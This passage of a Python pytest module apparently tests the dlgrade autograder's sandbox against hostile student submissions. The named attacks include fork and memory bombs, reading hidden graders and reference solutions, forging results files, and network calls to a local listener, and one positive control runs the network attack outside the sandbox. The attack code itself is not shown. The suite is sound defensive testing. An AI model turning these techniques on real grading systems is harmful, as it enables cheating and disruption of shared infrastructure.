        assert path.exists(), f"{self.key}: no results.json for {name}\n{self.log()}"
        return json.loads(path.read_text())


def _snapshot_files(out: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()} if out.exists() else {}


def execute(run: Run, command: list[str], env: dict[str, str], watch: bool = False) -> Run:
    """Run ``command`` with the run's TMPDIR; look for what it left at once and again AFTER_S later."""
    run.tmpdir.mkdir(parents=True, exist_ok=True)
    env = {**env, "TMPDIR": str(run.tmpdir)}
    needle = str(run.tmpdir)
    before = _process_keys()
    monitor = Monitor(before, needle)
    if watch:
        monitor.start()
    start = time.monotonic()
    try:
        run.proc = subprocess.run(command, capture_output=True, text=True, cwd=run.folder, env=env,
                                  timeout=RUN_LIMIT_S)
    except subprocess.TimeoutExpired as exc:
        run.error = f"{command[:2]} ran over {RUN_LIMIT_S} s: {exc}"
    run.elapsed = time.monotonic() - start
    run.left_at_return = [p for p in run_processes(before, needle, run.label) if p.state != "Z"]
    run.files_at_return = _snapshot_files(run.out)
    monitor.stop.set()
    if watch:
        monitor.join()
    run.max_nobody = monitor.max_nobody
    time.sleep(AFTER_S)
    run.left_later = run_processes(before, needle, run.label)
    run.files_later = _snapshot_files(run.out)
    return run


def context(out: Path, listener: Listener, label: str) -> dict:
    return {"token": TOKEN, "out": str(out), "repo": str(REPO), "port": listener.port, "host_ips": host_ips(),
            "abstract": listener.abstract, "label": label}


def write_subs(folder: Path, names: list[str], ctx: dict, filename: str | None = None) -> list[Path]:
    paths = []
    for name in names:
        source = ATTACKS[name].source(ctx) if name in ATTACKS else BASES[name.split("_")[0]]()
        path = folder / name / filename if filename else folder / f"{name}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(source)
        paths.append(path)
    return paths


def dlgrade_grade(run: Run, paths: list[Path], *options: str, env: dict | None = None, watch: bool = False) -> Run:
    command = [str(BIN / "dlgrade"), "grade", "--assignment", "rnn", "--out", str(run.out), *options,
               *map(str, paths)]
    return execute(run, command, env or clean_env(), watch=watch)


def clean_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if k != "DLGRADE_ROOT"}


def grade_batch(key: str, root: Path, names: list[str], listener: Listener, *options: str,
                watch: bool = False) -> Run:
    folder = root / key
    out = folder / "out"
    label = f"advd{TOKEN[:6]}{key[:2]}"
    run = Run(key, folder, out, folder / "tmp", names=names, label=label)
    paths = write_subs(folder / "subs", names, context(out, listener, label))
    return dlgrade_grade(run, paths, *options, watch=watch)


EXPOSED_ROOT = Path("/run") / f"dlgrade-adv-{TOKEN}"


def exposed_batch(root: Path, listener: Listener) -> Run:
    """Submissions, results and the kit (DLGRADE_ROOT) in a folder the sandbox does not hide (/run)."""
    kit = EXPOSED_ROOT / "kit"
    for part in ("assignments/rnn", "autograder/rnn", "student_template/rnn"):
        shutil.copytree(REPO / part, kit / part, ignore=shutil.ignore_patterns("__pycache__"))
    (kit / "solutions").mkdir(parents=True)
    shutil.copy(REPO / "solutions" / "rnn.py", kit / "solutions" / "rnn.py")
    folder = EXPOSED_ROOT / "course"
    ctx_repo = {"repo": str(kit)}  # what the kit reader looks for: where the instructor put the kit
    out = folder / "out"
    label = f"advd{TOKEN[:6]}ex"
    run = Run("exposed", folder, out, root / "exposed" / "tmp", names=["alice", *EXPOSED_ATTACKS], label=label)
    ctx = context(out, listener, label) | ctx_repo
    subs = folder / "subs"
    subs.mkdir(parents=True)
    (subs / "alice.py").write_text(reference())
    paths = [subs / "alice.py", *write_subs(subs, list(EXPOSED_ATTACKS), ctx)]
    return dlgrade_grade(run, paths, env=clean_env() | {"DLGRADE_ROOT": str(kit)})


def otter_runs(root: Path, listener: Listener) -> dict[str, Run]:
    """``dlgrade build`` the rnn autograder once, then ``otter run`` it on each attack (two at a time)."""
    dist = root / "dist"
    build = subprocess.run([str(BIN / "dlgrade"), "build", "--out", str(dist), "--assignment", "rnn"],
                           capture_output=True, text=True, timeout=RUN_LIMIT_S, cwd=root)
    runs = {}
    jobs = []
    for name in OTTER_ATTACKS:
        folder = root / "otter" / name
        out = folder / "out"
        out.mkdir(parents=True)
        label = f"advd{TOKEN[:6]}o{name[:1]}"
        run = Run(f"otter-{name}", folder, out, folder / "tmp", names=[name], label=label)
        runs[name] = run
        if build.returncode != 0:
            run.error = f"dlgrade build failed:\n{build.stdout}{build.stderr}"
            continue
        (sub,) = write_subs(folder / "sub", [name], context(out, listener, label), filename="rnn.py")
        command = [str(BIN / "otter"), "run", "-a", str(dist / "rnn" / "autograder.zip"), "-o", str(out),
                   "--no-logo", str(sub)]
        jobs.append((run, command))
    with ThreadPoolExecutor(max_workers=2) as pool:
        list(pool.map(lambda job: execute(job[0], job[1], clean_env()), jobs))
    return runs


MAIN_NAMES = ["ref", *CONTROLS, *MAIN_ATTACKS, "ref_end"]
TIMEOUT_NAMES = ["ref", *TIMEOUT_ATTACKS, "ref_end"]


@pytest.fixture(scope="module")
def session(tmp_path_factory):
    """Start every run at once (threads); tests wait for the one they read."""
    root = tmp_path_factory.mktemp("adversarial")
    listener = Listener()
    pool = ThreadPoolExecutor(max_workers=4)
    futures: dict[str, Future] = {
        "main": pool.submit(grade_batch, "main", root, MAIN_NAMES, listener),
        "timeout": pool.submit(grade_batch, "timeout", root, TIMEOUT_NAMES, listener, "--timeout", "2", watch=True),
    }
    if shutil.which("otter", path=str(BIN)):
        futures["otter"] = pool.submit(otter_runs, root, listener)
    if _exposed_possible():
        futures["exposed"] = pool.submit(exposed_batch, root, listener)
    yield {"root": root, "listener": listener, "futures": futures}
    pool.shutdown(wait=True)
    for key, future in futures.items():  # shown with -s
        if future.exception() is None:
            value = future.result()
            for run in (value.values() if isinstance(value, dict) else [value]):
                print(f"{run.key}: {run.elapsed:.0f} s (most processes of uid nobody at once: {run.max_nobody})")
    listener.close()
    _cleanup(root)


def _exposed_possible() -> bool:
    try:
        EXPOSED_ROOT.mkdir(parents=True)
    except OSError:
        return False
    return not any(EXPOSED_ROOT == p or p in EXPOSED_ROOT.parents for p in POLICY.hidden_paths())


def _finished(session, key: str):
    if key not in session["futures"]:
        pytest.skip(f"no {key} run on this machine")
    return session["futures"][key].result(timeout=RUN_LIMIT_S * 3)


def _batch(session, key: str) -> Run:
    run = _finished(session, key)
    assert run.proc is not None and run.proc.returncode == 0, f"{key}: {run.log()}"
    return run


def _otter(session, name: str) -> Run:
    run = _finished(session, "otter")[name]
    assert run.proc is not None, run.error
    assert run.proc.returncode == 0, run.log()
    return run


def all_runs(session) -> list[Run]:
    runs = []
    for key in session["futures"]:
        value = _finished(session, key)
        runs += list(value.values()) if isinstance(value, dict) else [value]
    return runs


def batch_of(name: str) -> str:
    return "timeout" if name in TIMEOUT_ATTACKS else "exposed" if name in EXPOSED_ATTACKS else "main"


# -- what the checks look at -------------------------------------------------------------------------
def scores(results: dict) -> dict[str, float]:
    return {t["name"]: t["score"] for t in results["tests"]}


def outputs(results: dict) -> str:
    return "\n".join(t["output"] for t in results["tests"])


def assert_valid(results: dict, where: str) -> None:
    assert isinstance(results.get("score"), (int, float)), where
    tests = results.get("tests")
    assert isinstance(tests, list) and len(tests) == N_TESTS, (where, tests)
    for test in tests:
        assert isinstance(test.get("name"), str) and test["name"], (where, test)
        assert isinstance(test.get("output"), str) and test["output"], (where, test)
        assert isinstance(test.get("score"), (int, float)) and isinstance(test.get("max_score"), (int, float))
        assert 0 <= test["score"] <= test["max_score"], (where, test)
        assert test.get("status") in ("passed", "failed"), (where, test)
        assert (test["status"] == "passed") == (test["score"] == test["max_score"]), (where, test)
    assert results["score"] == pytest.approx(sum(t["score"] for t in tests)), where
    assert sum(t["max_score"] for t in tests) == FULL, where
    assert MARK not in json.dumps(results), f"{where}: forged results came through"


def assert_full_marks(results: dict, where: str) -> None:
    failed = [(t["name"], t["output"][:300]) for t in results["tests"] if t["status"] != "passed"]
    assert not failed and results["score"] == FULL, f"{where} lost points: {failed}"


class AttackSucceeded(AssertionError):
    """The attack got what it was after (the one failure the xfail tests of known holes expect)."""


def assert_expected(attack: Attack, results: dict, control: dict | None, where: str) -> None:
    """The score rule of ``attack`` (see :class:`Attack`)."""
    score = results["score"]
    summary = f"{where}: {attack.name} ({attack.what}) scored {score}:\n{outputs(results)[:3000]}"
    if attack.expect in CONTROLS:
        assert control is not None and control["score"] < FULL, "the control must lose points"
        better = {name: (s, scores(control).get(name)) for name, s in scores(results).items()
                  if s > scores(control).get(name, 0.0)}
        if better or score > control["score"]:
            raise AttackSucceeded(f"{summary}\nbeats the control {attack.expect!r} on: {better}")
    elif not {"zero": score == 0, "below_full": score < FULL, "neutralised": score <= FULL}[attack.expect]:
        raise AttackSucceeded(summary)


# -- 1. scores ---------------------------------------------------------------------------------------
HOLES: dict[str, str] = {}


def _param(name: str):
    marks = [pytest.mark.xfail(strict=True, raises=AttackSucceeded, reason=HOLES[name])] if name in HOLES else []
    return pytest.param(name, marks=marks, id=name)


@pytest.mark.parametrize("name", [_param(n) for n in (*MAIN_ATTACKS, *TIMEOUT_ATTACKS, *EXPOSED_ATTACKS)])
def test_hostile_submission_gains_nothing(session, name):
    attack = ATTACKS[name]
    run = _batch(session, batch_of(name))
    results = run.results(name)
    assert_valid(results, f"{run.key}/{name}")
    control = run.results(attack.expect) if attack.expect in CONTROLS else None
    assert_expected(attack, results, control, run.key)


@pytest.mark.parametrize("name", OTTER_ATTACKS)
def test_hostile_submission_gains_nothing_through_otter(session, name):
    run = _otter(session, name)
    results = run.results(name)
    assert_valid(results, run.key)
    assert_expected(ATTACKS[name], results, None, run.key)


def test_controls_score_as_expected(session):
    run = _batch(session, "main")
    assert run.results("stub")["score"] == 0
    for name in ("wrong", "forbidden", "inplace"):
        assert 0 < run.results(name)["score"] < FULL, (name, outputs(run.results(name)))
    assert "which this assignment asks you to implement yourself" in outputs(run.results("forbidden"))
    assert "modified its input x in place" in outputs(run.results("inplace"))


@pytest.mark.parametrize("key", ["main", "timeout", "exposed"])
def test_batch_goes_on_reference_keeps_full_marks(session, key):
    run = _batch(session, key)
    for name in (["alice"] if key == "exposed" else ["ref", "ref_end"]):
        assert_full_marks(run.results(name), f"{key}/{name}")


@pytest.mark.parametrize("key", ["main", "timeout", "exposed"])
def test_every_results_file_and_the_gradebook_are_valid(session, key):
    run = _batch(session, key)
    names = sorted(p.name for p in run.out.iterdir() if p.is_dir())
    assert names == sorted(run.names), names
    for name in run.names:
        assert_valid(run.results(name), f"{key}/{name}")
    with (run.out / "gradebook.csv").open(newline="", encoding="utf-8-sig") as handle:
        body = {row["name"]: row for row in csv.DictReader(handle)}
    assert sorted(body) == sorted(run.names)
    for name in run.names:
        assert float(body[name]["score"]) == run.results(name)["score"], name


# -- 2. what each attack did, seen from outside -----------------------------------------------------
def test_exit_at_import_is_reported(session):
    results = _batch(session, "main").results("exit_at_import")
    assert "SystemExit(0)" in results["output"], results["output"]  # said once, above the tests
    assert all("error while it was loaded" in t["output"] for t in results["tests"]), outputs(results)


def test_systemexit_in_forward_fails_only_its_tests(session):
    results = _batch(session, "main").results("systemexit_in_forward")
    lstm_cell = [t for t in results["tests"] if "SystemExit(0)" in t["output"]]
    assert lstm_cell, outputs(results)
    passed = [t for t in results["tests"] if t["status"] == "passed"]
    assert len(passed) >= 5, "the GRU tests should still pass: the worker survives SystemExit"  # 5 GRUCell tests


def test_memory_bomb_hits_the_memory_limit(session):
    results = _batch(session, "main").results("memory_bomb")
    gru = [t for t in results["tests"] if t["status"] == "failed"]
    assert gru and all("memory" in t["output"].lower() or "worker" in t["output"] for t in gru), outputs(results)
    assert sum(t["status"] == "passed" for t in results["tests"]) >= 10  # LSTMCell and LSTM untouched


def test_infinite_loop_times_out_and_the_rest_is_graded(session):
    run = _batch(session, "timeout")
    results = run.results("infinite_loop")
    failed = [t for t in results["tests"] if t["status"] == "failed"]
    assert failed and all("timed out after 2 s" in t["output"] for t in failed), outputs(results)
    assert len(failed) == 5  # the GRUCell tests only


def test_fork_bomb_is_bounded_and_times_out(session):
    run = _batch(session, "timeout")
    results = run.results("fork_bomb")
    assert all("timed out after 2 s while loading" in t["output"] for t in results["tests"]), outputs(results)
    # RLIMIT_NPROC: 32 processes over what nobody ran when the worker started (this run's other worker, and
    # slots freed by workers of the concurrent runs, add a few; unbounded, it forks hundreds in 2 s);
    # and the bomb did go off (which also shows that the sampling finds the sandboxed processes)
    if os.geteuid() == 0:
        assert 10 <= run.max_nobody <= 48, f"{run.max_nobody} processes of worker uids at once"


def test_reading_the_reference_finds_nothing(session):
    results = _batch(session, "main").results("read_reference")
    text = outputs(results)
    assert f"read {REPO}/solutions/rnn.py: {unreadable_error()}" in text, text[:2000]
    assert "import rnn from REPO/solutions: ModuleNotFoundError" in text, text[:2000]
    assert ": OK" not in text, text[:2000]


def test_hidden_graders_do_not_leak(session):
    results = _batch(session, "main").results("read_graders")
    text = outputs(results)
    assert "found 0 grader files" in text, text[:2000]
    assert f"read {REPO}/autograder/rnn/test_rnn_cells.py: {unreadable_error()}" in text, text[:2000]
    grader_source = (REPO / "autograder" / "rnn" / "test_rnn_cells.py").read_text()
    for line in ("from dlgrade.grading.probes import Probe, randn", "def lstm_cell(", "CELLS = {"):
        assert line in grader_source and line not in text, line


def test_printed_fake_results_change_nothing(session):
    run = _batch(session, "main")
    assert run.results("fake_stdout")["score"] == 0
    row = next(line.split() for line in run.proc.stdout.splitlines() if line.startswith("fake_stdout "))
    assert row[1] == "0/24", row
    for where, text in (("stdout", run.proc.stdout), ("stderr", run.proc.stderr), ("grading.log", run.log())):
        assert MARK not in text, f"the submission's output reached the grader's {where}"


def test_no_network_connection_reaches_the_listener(session):
    for key in ("main", "timeout"):
        _finished(session, key)
    assert not session["listener"].seen, session["listener"].seen


def test_the_listener_does_see_the_network_attack_outside_the_sandbox(tmp_path):
    """Positive control: the same attack code, run as a plain process, reaches a listener."""
    listener = Listener("-control")
    try:
        code = PRELUDE.format(name="network", **context(tmp_path, listener, "")) + NETWORK
        subprocess.run([sys.executable, "-I", "-c", code], timeout=60, check=True, cwd=tmp_path)
        deadline = time.monotonic() + 5
        while len(listener.seen) < 3 and time.monotonic() < deadline:
            time.sleep(0.1)
    finally:
        listener.close()
    kinds = {entry.split()[0] for entry in listener.seen}
    assert {"tcp", "udp", "unix"} <= kinds, listener.seen


def test_writes_into_the_grader_package_fail(session):
    text = outputs(_batch(session, "main").results("write_package"))
    assert "create " in text and ": OK" not in text, text[:3000]


def test_forged_protocol_messages_make_no_grader_error(session):
    """A worker's answer, however malformed, fails the test with a message about the student's code."""
    text = outputs(_batch(session, "main").results("socket_forge"))
    assert "grader error" not in text, text[:2000]


def test_deeply_nested_message_is_a_clean_failure(session):
    results = _batch(session, "main").results("protocol_garbage")
    text = outputs(results)
    assert results["score"] < FULL
    if "grader error" in text:
        raise AttackSucceeded(text[:3000])


# -- 3. nothing left behind --------------------------------------------------------------------------
def _runs_with_ids():
    return ["main", "timeout", "exposed", *(f"otter-{n}" for n in OTTER_ATTACKS)]


def _run_by_id(session, run_id: str) -> Run:
    if run_id.startswith("otter-"):
        return _otter(session, run_id[len("otter-"):])
    return _batch(session, run_id)


@pytest.mark.parametrize("run_id", _runs_with_ids())
def test_no_process_outlives_the_command(session, run_id):
    run = _run_by_id(session, run_id)
    assert not run.left_at_return, "still running when the command returned:\n" + "\n".join(map(str, run.left_at_return))
    assert not run.left_later, f"still there {AFTER_S} s later:\n" + "\n".join(map(str, run.left_later))
    nobody = [p for p in map(_describe, [int(e.name) for e in os.scandir("/proc") if e.name.isdigit()])
              if p is not None and p.comm.startswith(f"advd{TOKEN[:6]}")]
    assert not nobody, nobody


def test_the_leftover_check_finds_a_planted_process(tmp_path):
    """Positive control for the check above: a process with the run's TMPDIR, or the daemon's name."""
    label = f"advd{TOKEN[:6]}pc"
    before = _process_keys()
    code = f"import ctypes, time; ctypes.CDLL(None).prctl(15, {label.encode()!r}, 0, 0, 0); time.sleep(30)"
    planted = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"],
                                env={"TMPDIR": str(tmp_path)}),
               subprocess.Popen([sys.executable, "-c", code], env={})]
    try:
        deadline = time.monotonic() + 10
        found: set[int] = set()
        while time.monotonic() < deadline and len(found) < 2:
            found = {p.pid for p in run_processes(before, str(tmp_path), label)}
            time.sleep(0.1)
        assert found == {p.pid for p in planted}, found
    finally:
        for proc in planted:
            proc.kill()
            proc.wait()


@pytest.mark.parametrize("run_id", _runs_with_ids())
def test_results_do_not_change_after_the_command(session, run_id):
    run = _run_by_id(session, run_id)
    changed = [p for p in set(run.files_at_return) | set(run.files_later)
               if run.files_at_return.get(p) != run.files_later.get(p)]
    assert not changed, changed
    forged = [p for p, data in run.files_later.items() if MARK.encode() in data]
    assert not forged, forged


@pytest.mark.parametrize("run_id", _runs_with_ids())
def test_scratch_folders_are_removed(session, run_id):
    run = _run_by_id(session, run_id)
    left = [str(p) for p in run.tmpdir.rglob("*")] if run.tmpdir.exists() else []
    assert not left, left[:20]


def _places() -> list[Path]:
    """Folders an attack aims at, looked at one level deep (dlgrade/ and the outputs: all the way)."""
    import site
    import sysconfig

    return [Path("/"), Path("/tmp"), Path("/root"), Path("/run"), Path(os.path.expanduser("~")), REPO,
            REPO / "solutions", REPO / "autograder" / "rnn", Path(sys.prefix), BIN,
            Path(sysconfig.get_paths()["stdlib"]), Path(sysconfig.get_paths()["purelib"]),
            *map(Path, site.getsitepackages())]


def test_nothing_is_written_outside_the_scratch_folders(session):
    runs = all_runs(session)
    deep = [REPO / "dlgrade", *[r.out for r in runs], *[r.tmpdir for r in runs], session["root"]]
    named = []
    for place in _places():
        if place.is_dir():
            named += [str(p) for p in place.iterdir() if TOKEN in p.name and p != EXPOSED_ROOT]
    for place in deep:
        if place.is_dir():
            named += [str(p) for p in place.rglob("*") if TOKEN in p.name]
    assert not named, named
    forged = [str(p) for p in _forged_files(runs)]
    assert not forged, forged
    assert not Path("/autograder/results/results.json").exists() or MARK.encode() not in \
        Path("/autograder/results/results.json").read_bytes()


def _forged_files(runs: list[Run]) -> list[Path]:
    candidates = [Path("/results.json"), Path("/tmp/results.json"), Path("/root/results.json"),
                  Path(os.path.expanduser("~/results.json")), REPO / "results.json",
                  Path("/autograder/results/results.json")]
    for run in runs:
        candidates += [p for p in run.out.rglob("*") if p.is_file()] if run.out.exists() else []
        candidates += [run.tmpdir / "results.json", run.folder / "results.json"]
    return [p for p in candidates if p.is_file() and MARK.encode() in _read_bytes(str(p))]


def _cleanup(root: Path) -> None:
    """If an attack got through, do not leave its files on the machine."""
    for place in _places() + [REPO / "dlgrade"]:
        if place.is_dir():
            for path in (place.rglob("*") if place == REPO / "dlgrade" else place.iterdir()):
                if TOKEN in path.name and path.is_file():
                    path.unlink(missing_ok=True)
    for path in [Path("/results.json"), Path("/tmp/results.json"), Path("/root/results.json"),
                 REPO / "results.json", Path("/autograder/results/results.json")]:
        if path.is_file() and MARK.encode() in _read_bytes(str(path)):
            path.unlink(missing_ok=True)
    shutil.rmtree(EXPOSED_ROOT, ignore_errors=True)
